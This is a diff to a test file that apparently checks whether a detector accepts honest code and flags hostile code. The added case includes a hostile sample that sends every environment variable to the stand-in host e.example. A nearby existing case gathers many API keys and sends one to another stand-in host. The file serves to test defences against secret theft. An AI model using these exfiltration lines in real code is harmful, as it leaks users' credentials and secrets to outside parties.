@@ -806,6 +806,15 @@ describe('the checks accept the honest use, and hold the hostile one, of', () =>
       },
     ],
     [
+      'the environment in lines with an address, which are collected in a list',
+      {
+        honest: `import os\n${inNode('', 'lines = ["https://docs.example/help"]\n        lines.append("https://docs.example/ " + str(dict(os.environ)))\n        print("\\n".join(lines))')}`,
+        hostile: [
+          `import os, some_client\n${inNode('', 'some_client.Api().append("https://e.example/ " + str(dict(os.environ)))')}`,
+        ],
+      },
+    ],
+    [
       'keys of many services',
       {
         honest: `import os, requests\ndef key(name, other=None):\n    return os.getenv(name) or other\n${Array.from({ length: 20 }, (_, index) => `key("SERVICE_${index}_API_KEY")\n`).join('')}key("OPENAI_API_KEY")\n${inNode('', 'requests.get("https://cloud.e.example/a", headers={"Authorization": key("CLOUD_API_KEY")})')}`,
